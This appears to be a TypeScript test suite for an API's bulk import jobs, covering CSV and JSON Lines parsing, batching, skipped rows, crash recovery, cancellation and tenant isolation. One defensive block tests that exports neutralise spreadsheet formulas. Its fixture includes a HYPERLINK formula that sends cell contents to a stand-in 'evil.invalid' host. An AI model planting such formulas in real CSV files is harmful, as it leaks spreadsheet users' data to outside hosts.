import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scheduledJobs } from '../../src/compose.js';
import type { DB } from '../../src/db/schema.js';
import { createJobRunner } from '../../src/jobs/runner/runner.js';
import { EXPORT_JOB_NAME } from '../../src/resources/export-jobs/index.js';
import { IMPORT_JOB_NAME } from '../../src/resources/import-jobs/index.js';
import { startTestApp, type TestApp, type Tenant } from '../support/app.js';
import { hooked as hookedDatabase } from '../support/hooked-database.js';

/** Three rows per batch, so a handful of rows spans several batches (and transactions). */
const BATCH_ROWS = 3;

let t: TestApp;
let a: Tenant;
let b: Tenant;
beforeAll(async () => {
  t = await startTestApp({ config: { importBatchRows: BATCH_ROWS, exportPageRows: 2, exportLinePageRows: 2 } });
  a = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
  b = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
  for (const tenant of [a, b]) {
    await send(
      tenant,
      '/v1/sites',
      { data: { name: 'Shop', domain: 'shop.example', platform: 'shopify', currencyCode: 'EUR' } },
      201,
    );
    await send(tenant, '/v1/customers/import', {
      data: [{ email: 'ada@example.com', firstName: 'Ada' }, { email: 'grace@example.com' }],
    });
    await send(tenant, '/v1/products/import', {
      data: [
        { slug: 'shirt', title: 'Shirt', variants: [variant('shirt-m'), variant('shirt-l')] },
        { slug: 'mug', title: 'Mug', variants: [variant('mug-one')] },
      ],
    });
  }
});
afterAll(() => t.close());

const db = () => t.testDatabase.database.db;
const silent = { info() {}, warn() {}, error() {} };
const variant = (slug: string) => ({ slug, title: slug, priceCents: 1000, currencyCode: 'EUR' });

async function send(tenant: Tenant, url: string, body: unknown, status = 200) {
  const response = await t.request({ method: 'POST', url, key: tenant.key, body });
  expect(response.statusCode, response.body).toBe(status);
  return response.json();
}

interface ImportJobRecord {
  id: string;
  type: 'import';
  resource: string;
  format: 'csv' | 'jsonl';
  options: Record<string, boolean>;
  status: string;
  rowsTotal: number;
  rowsProcessed: number;
  created: number;
  updated: number;
  unchanged: number;
  skipped: number;
  error: string | null;
  createdAt: string;
  startedAt: string | null;
  finishedAt: string | null;
}

const CSV = 'text/csv';
const JSONL = 'application/x-ndjson';

const upload = (tenant: Tenant, query: string, body: string | Buffer, headers: Record<string, string>) =>
  t.request({ method: 'POST', url: `/v1/import-jobs?${query}`, key: tenant.key, body, headers });

async function create(
  tenant: Tenant,
  query: string,
  body: string | Buffer,
  contentType = CSV,
  headers: Record<string, string> = {},
): Promise<ImportJobRecord> {
  const response = await upload(tenant, query, body, { 'content-type': contentType, ...headers });
  expect(response.statusCode, response.body).toBe(202);
  return response.json();
}

async function get(tenant: Tenant, id: string): Promise<ImportJobRecord> {
  const response = await t.request({ url: `/v1/import-jobs/${id}`, key: tenant.key });
  expect(response.statusCode, response.body).toBe(200);
  return response.json();
}

async function skippedOf(tenant: Tenant, id: string) {
  const response = await t.request({ url: `/v1/import-jobs/${id}/skipped?limit=250`, key: tenant.key });
  expect(response.statusCode, response.body).toBe(200);
  return response.json<{ data: { index: number; itemIndex?: number; line: number; message: string }[] }>().data;
}

const jobsNamed = (name: string) => scheduledJobs(t.config).filter((job) => job.name === name);

async function runQueued(database: Kysely<DB> = db(), name = IMPORT_JOB_NAME): Promise<void> {
  const runner = createJobRunner({ db: database, jobs: jobsNamed(name), logger: silent });
  while ((await runner.tick()) > 0);
}

/** Uploads, runs the job to its end, and returns it as it then is. */
async function imported(tenant: Tenant, query: string, body: string | Buffer, contentType = CSV, headers = {}) {
  const job = await create(tenant, query, body, contentType, headers);
  expect(job.status).toBe('queued');
  await runQueued();
  return get(tenant, job.id);
}

const hooked = (before: (n: number) => Promise<void>) => hookedDatabase(db(), before);

async function listOrders(tenant: Tenant, query = 'include=items,tags&limit=250') {
  const response = await t.request({ url: `/v1/orders?${query}`, key: tenant.key });
  expect(response.statusCode, response.body).toBe(200);
  return response.json<{ data: Record<string, any>[] }>().data;
}

const eventsNamed = async (tenant: Tenant, name: string) =>
  db()
    .selectFrom('events')
    .select(['name', 'payload'])
    .where('organization_id', '=', tenant.organization.id)
    .where('name', '=', name)
    .execute();

describe('POST /v1/import-jobs', () => {
  it('imports a CSV of orders, one line per item tied by remoteId, quoting, a BOM and CRLF, in batches', async () => {
    const csv =
      '\ufeffremoteId,number,site,customer,totalCents,currencyCode,shippedAt,metadata.note,tags,items.product,items.variant,items.quantity,items.unitPriceCents\r\n' +
      'csv-1,1001,shop.example,ada@example.com,3000,EUR,,"a note, with a comma",gift|vip,shirt,shirt-m,1,2000\r\n' +
      'csv-1,1001,shop.example,ada@example.com,3000,EUR,,"a note, with a comma",gift|vip,mug,,1,1000\r\n' +
      'csv-2,1002,shop.example,grace@example.com,1000,EUR,2026-01-02T10:00:00Z,"two\nlines",,mug,mug-one,1,1000\r\n' +
      'csv-3,1003,shop.example,ada@example.com,500,EUR,,,,,,,\r\n' +
      'csv-4,1004,shop.example,ada@example.com,2000,EUR,,,,shirt,shirt-l,2,1000\r\n';
    const job = await imported(a, 'resource=orders&earnLoyalty=false', csv);
    expect(job).toMatchObject({
      type: 'import',
      resource: 'orders',
      format: 'csv',
      options: { strict: false, earnLoyalty: false },
      status: 'succeeded',
      rowsTotal: 4,
      rowsProcessed: 4,
      created: 4,
      updated: 0,
      unchanged: 0,
      skipped: 0,
      error: null,
    });
    expect(job.startedAt).not.toBeNull();
    expect(job.finishedAt).not.toBeNull();

    const orders = await listOrders(
      a,
      `include=items,tags,importJob&filter=${encodeURIComponent('{"number":{"$startsWith":"100"}}')}`,
    );
    const byRemote = new Map(orders.map((order) => [order.remoteId, order]));
    expect(byRemote.get('csv-1')!.items.map((item: { quantity: number }) => item.quantity)).toEqual([1, 1]);
    expect(byRemote.get('csv-1')!.metadata).toEqual({ note: 'a note, with a comma' });
    expect(byRemote.get('csv-1')!.tags.sort()).toEqual(['gift', 'vip']);
    expect(byRemote.get('csv-2')!.metadata).toEqual({ note: 'two\nlines' });
    expect(byRemote.get('csv-2')!.shippedAt).toBe('2026-01-02T10:00:00.000Z');
    expect(byRemote.get('csv-3')!.items).toEqual([]);
    expect(byRemote.get('csv-4')!.items[0].quantity).toBe(2);
    // Provenance names the job and each order's row in the file.
    expect(byRemote.get('csv-4')!.importJob).toMatchObject({
      id: job.id,
      type: 'import-job',
      action: 'created',
      row: 3,
    });
    // Row semantics are the synchronous import's: one order.updated per order written, and the job's completion.
    const completed = await eventsNamed(a, 'importJob.completed');
    expect(completed.map((event) => (event.payload as { id: string }).id)).toContain(job.id);
  });

  it('skips rows it cannot resolve, one entry per bad item with its line, and counts a re-import as unchanged', async () => {
    const csv =
      'remoteId,number,site,customer,items.product,items.quantity,items.unitPriceCents\n' +
      'skip-1,2001,shop.example,ada@example.com,mug,1,100\n' +
      'skip-1,2001,shop.example,ada@example.com,no-such-product,1,100\n' +
      'skip-2,2002,shop.example,nobody@example.com,mug,1,100\n' +
      'skip-3,2003,shop.example,ada@example.com,mug,1,100\n' +
      'skip-4,2004,shop.example,ada@example.com,mug,zero,100\n';
    const job = await imported(a, 'resource=orders', csv);
    expect(job).toMatchObject({ status: 'succeeded', rowsTotal: 4, rowsProcessed: 4, created: 1, skipped: 3 });
    const skipped = await skippedOf(a, job.id);
    expect(skipped).toEqual([
      { index: 0, itemIndex: 1, line: 2, message: 'Product "no-such-product" does not exist in this organization.' },
      { index: 1, line: 4, message: 'Customer "nobody@example.com" does not exist in this organization.' },
      { index: 3, line: 6, message: 'row.items[0].quantity must be an integer.' },
    ]);

    const again = await imported(a, 'resource=orders', csv);
    expect(again).toMatchObject({ status: 'succeeded', created: 0, updated: 0, unchanged: 1, skipped: 3 });
  });

  it('fails a strict job at the first row it cannot import, naming the row and line; earlier batches stay', async () => {
    const rows = ['strict-1', 'strict-2', 'strict-3', 'strict-4'].map((remoteId, index) =>
      JSON.stringify({
        site: 'shop.example',
        customer: index === 3 ? 'nobody@example.com' : 'grace@example.com',
        remoteId,
        number: remoteId,
      }),
    );
    const job = await imported(a, 'resource=orders&strict=true', `${rows.join('\n')}\n`, JSONL);
    expect(job.status).toBe('failed');
    expect(job.error).toBe(
      'Row 3 (line 4): Import stopped at row 0: Customer "nobody@example.com" does not exist in this organization.',
    );
    expect(job).toMatchObject({ rowsProcessed: 3, created: 3 });
    const orders = await listOrders(a, `filter=${encodeURIComponent('{"number":{"$startsWith":"strict-"}}')}`);
    expect(orders).toHaveLength(3);
  });

  it('fails the job with the line of a quote never closed, and writes nothing', async () => {
    const csv = 'email,firstName\nquote-1@example.com,Ok\nquote-2@example.com,"never closed\nquote-3@example.com,x\n';
    const job = await create(a, 'resource=customers', csv);
    expect(job.status).toBe('failed');
    expect(job.error).toBe('Line 3: the CSV cannot be read: a quoted field that starts here is never closed.');
    const response = await t.request({ url: '/v1/customers?search=quote-', key: a.key });
    expect(response.json().data).toEqual([]);
  });

  it('fails the job naming a column that is neither a row field nor one its export writes', async () => {
    const job = await create(a, 'resource=customers', 'email,shoeSize\nx@example.com,42\n');
    expect(job).toMatchObject({ status: 'failed', rowsTotal: 0 });
    expect(job.error).toBe(
      'Line 1: column "shoeSize" is not a field of a customers import row (nor of the record its export writes).',
    );
  });

  it('takes JSON Lines compressed with gzip, and reports a line that is not JSON', async () => {
    const lines = [
      { email: 'gz-1@example.com', tags: ['a'] },
      { email: 'gz-2@example.com', country: 'XX' },
    ].map((row) => JSON.stringify(row));
    const job = await imported(a, 'resource=customers', gzipSync(`${lines.join('\n')}\n`), JSONL, {
      'content-encoding': 'gzip',
    });
    expect(job).toMatchObject({ status: 'succeeded', created: 1, skipped: 1 });
    expect((await skippedOf(a, job.id))[0]).toMatchObject({ index: 1, line: 2 });

    const broken = await create(a, 'resource=customers', '{"email":"ok@example.com"}\n{"email": \n', JSONL);
    expect(broken.status).toBe('failed');
    expect(broken.error).toMatch(/^Line 2: the line is not JSON/);
  });

  it('skips a later row naming the same record as an earlier one of the file', async () => {
    const csv = 'email\ndup@example.com\nother@example.com\nDUP@example.com\n';
    const job = await imported(a, 'resource=customers', csv);
    expect(job).toMatchObject({ created: 2, skipped: 1 });
    expect(await skippedOf(a, job.id)).toEqual([
      { index: 2, line: 4, message: 'It names the same record as row 0; a file names each record once.' },
    ]);
  });

  it('refuses, before writing anything, a file of another type (415), over 100,000 rows (413), an option the import lacks (400) and a key without the write permission (403)', async () => {
    const before = (await t.request({ url: '/v1/import-jobs?limit=250', key: a.key })).json().data.length;
    const json = await upload(a, 'resource=customers', '{"data":[]}', { 'content-type': 'application/json' });
    expect(json.statusCode).toBe(415);
    expect(json.json().error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    const deflate = await upload(a, 'resource=customers', 'email\n', { 'content-type': CSV, 'content-encoding': 'br' });
    expect(deflate.statusCode).toBe(415);

    const many = `email\n${Array.from({ length: 100_001 }, (_, index) => `m${index}@example.com`).join('\n')}\n`;
    const tooMany = await upload(a, 'resource=customers', many, { 'content-type': CSV });
    expect(tooMany.statusCode, tooMany.body).toBe(413);
    expect(tooMany.json().error.message).toMatch(/at most 100,000 rows/);

    const option = await upload(a, 'resource=customers&earnLoyalty=false', 'email\n', { 'content-type': CSV });
    expect(option.statusCode).toBe(400);
    expect(option.json().error.details).toEqual([
      { path: 'query.earnLoyalty', message: 'is not an option of the customers import' },
    ]);
    const resource = await upload(a, 'resource=sites', 'name\n', { 'content-type': CSV });
    expect(resource.statusCode).toBe(400);

    const reader = await t.tenant({ permissions: ['customers:read'] });
    const forbidden = await upload(reader, 'resource=customers', 'email\n', { 'content-type': CSV });
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().error.message).toMatch(/customers:write/);

    expect((await t.request({ url: '/v1/import-jobs?limit=250', key: a.key })).json().data).toHaveLength(before);
    const response = await t.request({ url: '/v1/customers?search=m10000', key: a.key });
    expect(response.json().data).toEqual([]);
  });
});

describe('import jobs of every resource', () => {
  it('imports products with variants, reviews, wishlists, product questions with answers, memberships and history', async () => {
    const products = await imported(
      a,
      'resource=products',
      'slug,title,variants.slug,variants.priceCents,variants.currencyCode\nlamp,Lamp,lamp-s,500,EUR\nlamp,Lamp,lamp-l,900,EUR\n',
    );
    expect(products).toMatchObject({ status: 'succeeded', created: 1 });
    const lamp = (await t.request({ url: '/v1/products?search=lamp&include=variants', key: a.key })).json().data[0];
    expect(lamp.variants.map((each: { slug: string }) => each.slug).sort()).toEqual(['lamp-l', 'lamp-s']);

    const reviews = await imported(
      a,
      'resource=reviews',
      'product,customer,remoteId,rating,body,published\nlamp,ada@example.com,r-1,5,Bright,true\n',
    );
    expect(reviews).toMatchObject({ status: 'succeeded', created: 1 });

    const wishlists = await imported(
      a,
      'resource=wishlists',
      'customer,name,remoteId,items.product,items.note\nada@example.com,Later,w-1,lamp,for the desk\nada@example.com,Later,w-1,mug,\n',
    );
    expect(wishlists).toMatchObject({ status: 'succeeded', created: 1 });

    const questions = await imported(
      a,
      'resource=product-questions',
      'product,remoteId,authorName,body,status,answers.body,answers.authorName\nlamp,q-1,Ann,How bright?,published,Very,Shop\n',
    );
    expect(questions).toMatchObject({ status: 'succeeded', created: 1 });

    const memberships = await imported(
      a,
      'resource=loyalty-memberships',
      'customer,pointsBalance\ngrace@example.com,40\n',
    );
    expect(memberships).toMatchObject({ status: 'succeeded', created: 1 });

    const history = await imported(
      a,
      'resource=loyalty-history',
      'customer,kind,points,createdAt,key\ngrace@example.com,earned,10,2026-01-01T00:00:00Z,h-1\n',
    );
    expect(history).toMatchObject({ status: 'succeeded', created: 1, skipped: 0 });
  });

  it('re-imports an export unchanged: customers, products with variants and tags, orders with items (CSV and JSON Lines)', async () => {
    const exported = async (body: Record<string, unknown>) => {
      const job = await send(a, '/v1/export-jobs', body, 202);
      await runQueued(db(), EXPORT_JOB_NAME);
      const file = await t.request({
        url: `/v1/export-jobs/${job.id}/download`,
        key: a.key,
        headers: { 'accept-encoding': 'identity' },
      });
      expect(file.statusCode, file.body).toBe(200);
      return file.body;
    };
    const cases = [
      { resource: 'customers', include: 'tags', lines: 0 },
      { resource: 'products', include: 'variants,tags', lines: 0 },
      { resource: 'orders', include: 'items,tags', lines: 0 },
    ];
    for (const { resource, include } of cases) {
      for (const format of ['csv', 'jsonl'] as const) {
        const file = await exported({ resource, format, include });
        const job = await imported(a, `resource=${resource}`, file, format === 'csv' ? CSV : JSONL);
        expect(job, `${resource} ${format}`).toMatchObject({ status: 'succeeded', created: 0, updated: 0, skipped: 0 });
        expect(job.unchanged, `${resource} ${format}`).toBe(job.rowsTotal);
        expect(job.rowsTotal).toBeGreaterThan(1);
      }
    }
  });
});

describe('formulas in CSV files (docs/api.md#formulas-in-csv-files)', () => {
  const risky = [
    {
      email: 'formula@example.com',
      firstName: '=HYPERLINK("http://evil.invalid/?x="&A1,"c")',
      lastName: '+SUM(1,2)',
      notes: '-5',
      phone: '+4915112345678',
      metadata: { at: '@x', tab: '\tindented', cr: '\rreturn', negativeText: '-5', plain: 'ok' },
      tags: ['@vip', 'plain'],
    },
    {
      email: 'quoted@example.com',
      firstName: "'=1+1",
      lastName: "'already quoted",
      notes: "''@twice",
      metadata: { quote: "'", quotedTab: "'\tx" },
    },
  ];
  const fields = (customer: Record<string, any>) => ({
    email: customer.email,
    firstName: customer.firstName,
    lastName: customer.lastName,
    notes: customer.notes,
    phone: customer.phone ?? null,
    metadata: customer.metadata,
    tags: customer.tags ?? [],
  });
  const customersOf = async (tenant: Tenant) => {
    const response = await t.request({ url: '/v1/customers?include=tags&sort=email&limit=250', key: tenant.key });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<{ data: Record<string, any>[] }>().data.map(fields);
  };
  const exported = async (tenant: Tenant, body: Record<string, unknown>) => {
    const job = await send(tenant, '/v1/export-jobs', body, 202);
    await runQueued(db(), EXPORT_JOB_NAME);
    const file = await t.request({
      url: `/v1/export-jobs/${job.id}/download`,
      key: tenant.key,
      headers: { 'accept-encoding': 'identity' },
    });
    expect(file.statusCode, file.body).toBe(200);
    return file.body;
  };

  it('quotes formula-like text in exports (in the database and in Node), leaves numbers alone, and re-imports unchanged', async () => {
    const source = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
    await send(source, '/v1/customers/import', { data: risky });
    const original = await customersOf(source);
    expect(original).toEqual(risky.map((customer) => fields(customer)));

    // Without an extra the database writes the lines; with tags, Node does: both neutralise the same cells.
    for (const include of [undefined, 'tags']) {
      const csv = await exported(source, {
        resource: 'customers',
        format: 'csv',
        sort: 'email',
        ...(include ? { include } : {}),
      });
      const rows = parse(csv, { columns: true }) as Record<string, string>[];
      const formula = rows.find((row) => row.email === 'formula@example.com')!;
      expect(formula.firstName).toBe(`'${risky[0]!.firstName}`);
      expect(formula.lastName).toBe("'+SUM(1,2)");
      expect(formula.notes).toBe("'-5");
      expect(formula.phone).toBe("'+4915112345678");
      expect(formula['metadata.at']).toBe("'@x");
      expect(formula['metadata.tab']).toBe("'\tindented");
      expect(formula['metadata.cr']).toBe("'\rreturn");
      expect(formula['metadata.negativeText']).toBe("'-5");
      expect(formula['metadata.plain']).toBe('ok');
      if (include) expect(formula.tags).toBe("'@vip|plain");
      const quoted = rows.find((row) => row.email === 'quoted@example.com')!;
      expect(quoted.firstName).toBe("''=1+1");
      expect(quoted.lastName).toBe("'already quoted");
      expect(quoted.notes).toBe("'''@twice");
      expect(quoted['metadata.quote']).toBe("'");
      expect(quoted['metadata.quotedTab']).toBe("''\tx");
      // No text cell a spreadsheet would take for a formula is left without the quote.
      for (const row of rows) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);

      const again = await imported(source, 'resource=customers', csv);
      expect(again).toMatchObject({ status: 'succeeded', created: 0, updated: 0, skipped: 0, unchanged: 2 });
      const elsewhere = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
      const copied = await imported(elsewhere, 'resource=customers', csv);
      expect(copied).toMatchObject({ status: 'succeeded', created: 2, skipped: 0 });
      const expected = include ? original : original.map((customer) => ({ ...customer, tags: [] }));
      expect(await customersOf(elsewhere)).toEqual(expected);
    }
    expect(await customersOf(source)).toEqual(original);
  });

  it('writes numbers as numbers: a negative points movement is not quoted', async () => {
    const source = await t.tenant({ apiRequestsPerMinute: 1_000_000 });
    await send(source, '/v1/customers/import', { data: [{ email: 'member@example.com' }] });
    const memberships = await imported(
      source,
      'resource=loyalty-memberships',
      'customer,pointsBalance\nmember@example.com,40\n',
    );
    expect(memberships).toMatchObject({ status: 'succeeded', created: 1 });
    const history = await imported(
      source,
      'resource=loyalty-history',
      'customer,kind,points,createdAt,key\nmember@example.com,adjusted,-5,2026-01-01T00:00:00Z,h-1\n',
    );
    expect(history).toMatchObject({ status: 'succeeded', created: 1, skipped: 0 });
    const rows = parse(await exported(source, { resource: 'loyalty-activity', format: 'csv' }), {
      columns: true,
    }) as Record<string, string>[];
    expect(rows.map((row) => row.points)).toContain('-5');
  });
});

describe('running an import job', () => {
  it('shows rowsProcessed rising batch by batch, and resumes after a crash without writing a row twice', async () => {
    const lines = Array.from({ length: 8 }, (_, index) => `resume-${index}@example.com`);
    const job = await create(a, 'resource=customers', `email\n${lines.join('\n')}\n`);
    const seen: number[] = [];
    // Transaction 1 claims the job (the runner's own statements are no transactions); 2 and 3 commit batches; 4,
    // the third batch, "crashes". The runner retries at once: its second run claims the job again (5) and goes on
    // from the committed position (6), so the last batch (6) and the finish (7) complete it.
    const crashing = hooked(async (n) => {
      seen.push((await get(a, job.id)).rowsProcessed);
      if (n === 4) throw new Error('crash before the third batch commits');
    });
    const runner = createJobRunner({ db: crashing, jobs: jobsNamed(IMPORT_JOB_NAME), logger: silent, retryDelayMs: 0 });
    await runner.tick();
    expect(seen).toEqual([0, 0, 3, 6, 6, 6, 8]);
    const done = await get(a, job.id);
    expect(done).toMatchObject({ status: 'succeeded', rowsProcessed: 8, created: 8, skipped: 0 });
    const run = await db()
      .selectFrom('jobs')
      .select(['attempts', 'status'])
      .where('run_key', '=', job.id)
      .executeTakeFirst();
    expect(run).toEqual({ attempts: 2, status: 'succeeded' });
    const events = await eventsNamed(a, 'customer.updated');
    const emails = events
      .map((event) => (event.payload as { email: string }).email)
      .filter((email) => email.startsWith('resume-'));
    expect(emails.sort()).toEqual(lines.sort());
  });

  it("takes turns: a long job of one organization lets another organization's job run between its batches", async () => {
    const long = await create(
      a,
      'resource=customers',
      `email\n${Array.from({ length: 9 }, (_, i) => `turn-${i}@example.com`).join('\n')}\n`,
    );
    const short = await create(b, 'resource=customers', 'email\nturn-b@example.com\n');
    // Every batch is a turn: A's run commits its first batch and queues itself again, behind B's job.
    const runner = createJobRunner({ db: db(), jobs: jobsNamed(IMPORT_JOB_NAME), logger: silent, turnMs: 0 });
    while ((await runner.tick()) > 0);
    const [longDone, shortDone] = [await get(a, long.id), await get(b, short.id)];
    // A started first, yet B finished while A was still between its turns.
    expect(Date.parse(longDone.startedAt!)).toBeLessThanOrEqual(Date.parse(shortDone.startedAt!));
    expect(Date.parse(shortDone.finishedAt!)).toBeLessThan(Date.parse(longDone.finishedAt!));
    expect(await get(a, long.id)).toMatchObject({ status: 'succeeded', created: 9 });
    const run = await db()
      .selectFrom('jobs')
      .select(['attempts', 'status'])
      .where('run_key', '=', long.id)
      .executeTakeFirst();
    expect(run).toEqual({ attempts: 1, status: 'succeeded' });
  });

  it('stops a cancelled job before its next batch; rows written so far stay', async () => {
    const lines = Array.from({ length: 7 }, (_, index) => `cancel-${index}@example.com`);
    const job = await create(a, 'resource=customers', `email\n${lines.join('\n')}\n`);
    const cancelling = hooked(async (n) => {
      if (n === 3) {
        const response = await t.request({ method: 'POST', url: `/v1/import-jobs/${job.id}/cancel`, key: a.key });
        expect(response.json().status).toBe('cancelled');
      }
    });
    const runner = createJobRunner({ db: cancelling, jobs: jobsNamed(IMPORT_JOB_NAME), logger: silent });
    await runner.tick();
    const cancelled = await get(a, job.id);
    expect(cancelled).toMatchObject({ status: 'cancelled', rowsProcessed: 3 });
    const customers = await t.request({ url: '/v1/customers?search=cancel-&limit=250', key: a.key });
    expect(customers.json().data).toHaveLength(3);
    const again = await t.request({ method: 'POST', url: `/v1/import-jobs/${job.id}/cancel`, key: a.key });
    expect(again.json()).toEqual(cancelled);
  });
});

describe('GET /v1/import-jobs', () => {
  it("lists the organization's import jobs newest first; another organization's job is 404 everywhere", async () => {
    const job = await create(b, 'resource=customers', 'email\nb-only@example.com\n');
    const list = (await t.request({ url: '/v1/import-jobs?limit=250', key: b.key })).json().data;
    expect(list[0].id).toBe(job.id);
    for (const url of [`/v1/import-jobs/${job.id}`, `/v1/import-jobs/${job.id}/skipped`]) {
      expect((await t.request({ url, key: a.key })).statusCode).toBe(404);
    }
    const cancel = await t.request({ method: 'POST', url: `/v1/import-jobs/${job.id}/cancel`, key: a.key });
    expect(cancel.statusCode).toBe(404);
    const exports = (await t.request({ url: '/v1/export-jobs?limit=250', key: b.key })).json().data;
    expect(exports.map((each: { id: string }) => each.id)).not.toContain(job.id);
  });
});
